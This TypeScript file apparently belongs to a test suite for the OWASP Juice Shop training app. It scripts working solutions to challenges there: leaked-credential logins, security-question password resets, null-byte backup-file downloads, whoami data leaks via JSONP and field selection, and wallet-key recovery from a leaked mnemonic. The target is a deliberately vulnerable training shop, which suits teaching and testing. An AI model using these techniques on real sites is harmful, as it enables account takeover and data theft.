import type { Attacker } from '../attacker/attacker.js'
import type { Login } from '../attacker/client.js'
import { deriveWalletKey } from '../attacker/derive-wallet-key.js'
import { asksWhoIAm, knowAnswer, logInAs, logsIn, resetsPassword } from '../features/accounts.js'
import { browseAsJim } from '../features/customers.js'
import { checkOut, openBuyer, putIntoBasket } from '../features/orders.js'
import { readsFiles, seesPictures, visit } from '../features/pages.js'
import { complains, tell } from '../features/texts.js'
import { ensure, ensureStatus, proof } from '../proof.js'

export const geoStalkingMetaChallenge = proof({
  attack: knowAnswer('john@juice-sh.op', 'Daniel Boone National Forest'),
  honest: resetsPassword,
})

export const geoStalkingVisualChallenge = proof({
  attack: knowAnswer('emma@juice-sh.op', 'ITsec'),
  honest: resetsPassword,
})

export const resetPasswordUvoginChallenge = proof({
  attack: knowAnswer('uvogin@juice-sh.op', 'Silence of the Lambs'),
  honest: resetsPassword,
})

/** Exports the data of an account; some shops tell the answer of the CAPTCHA themselves. */
async function exportData(me: Attacker, { token }: Login) {
  const captcha = (await me.get('/rest/image-captcha/', { token })).json<{ image: string; answer?: string }>()
  const answer = captcha.answer ?? me.readPicture(captcha.image)
  return me.post('/rest/user/data-export', { format: '1', answer }, { token })
}

async function takesDataHome(me: Attacker): Promise<void> {
  const email = 'collector@juice.example'
  const buyer = await openBuyer(me, email)
  await putIntoBasket(me, buyer, 3)
  const { orderConfirmation } = (await checkOut(me, buyer)).json<{ orderConfirmation: string }>()
  const { userData } = ensureStatus(await exportData(me, buyer), 'an export').json<{ userData: string }>()
  const { orders } = JSON.parse(userData) as { orders: { orderId: string }[] }
  ensure(orders.map(({ orderId }) => orderId).join() === orderConfirmation, `The export has ${userData}`)
}

export const dataExportChallenge = proof({
  attack: async (me) => exportData(me, await me.register('admun@juice-sh.op')),
  honest: takesDataHome,
})

export const directoryListingChallenge = proof({ attack: visit('/ftp/acquisitions.md'), honest: readsFiles })

export const forgottenBackupChallenge = proof({
  attack: visit('/ftp/coupons_2013.md.bak%2500.md'),
  honest: readsFiles,
})

export const forgottenDevBackupChallenge = proof({ attack: visit('/ftp/package.json.bak%2500.md'), honest: readsFiles })

export const retrieveBlueprintChallenge = proof({
  attack: visit('/assets/public/images/products/JuiceShop.stl'),
  honest: seesPictures,
})

export const exposedCredentialsChallenge = proof({
  attack: logInAs('testing@juice-sh.op', 'IamUsedForTesting'),
  honest: logsIn,
})

export const loginAmyChallenge = proof({
  attack: logInAs('amy@juice-sh.op', 'K1f.....................'),
  honest: logsIn,
})

export const loginRapperChallenge = proof({
  attack: logInAs('mc.safesearch@juice-sh.op', 'Mr. N00dles'),
  honest: logsIn,
})

async function asksForToken(me: Attacker): Promise<void> {
  ensureStatus(await me.get('/rest/web3/nftUnlocked'), 'the state of the token')
  const guess = await me.post('/rest/web3/submitKey', { privateKey: `0x${'1'.repeat(64)}` })
  ensure(guess.status === 401, `A guessed key is answered with ${guess.status}`)
}

export const nftUnlockChallenge = proof({
  async attack(me) {
    const { data } = (await me.get('/api/Feedbacks')).json<{ data: { comment: string }[] }>()
    const leak = data.find(({ comment }) => comment.includes('/juicy-nft'))?.comment ?? ''
    const words = /(?:\b[a-z]+ ){11}[a-z]+\b/.exec(leak.slice(leak.indexOf('purpose')))?.[0] ?? ''
    await me.post('/rest/web3/submitKey', { privateKey: deriveWalletKey(words) })
  },
  honest: asksForToken,
})

export const dlpPastebinDataLeakChallenge = proof({
  attack: tell('Hueteroneel and Eurogium Edule'),
  honest: complains,
})

export const leakedApiKeyChallenge = proof({
  attack: tell('6PPi37DBxP4lDwlriuaxP15HaDJpsUXY5TspVmie'),
  honest: complains,
})

const askWhoIAm = (query: string) => async (me: Attacker) => (await browseAsJim(me)).get(`/rest/user/whoami?${query}`)

export const emailLeakChallenge = proof({ attack: askWhoIAm('callback=f'), honest: asksWhoIAm })

export const passwordHashLeakChallenge = proof({ attack: askWhoIAm('fields=id,password'), honest: asksWhoIAm })
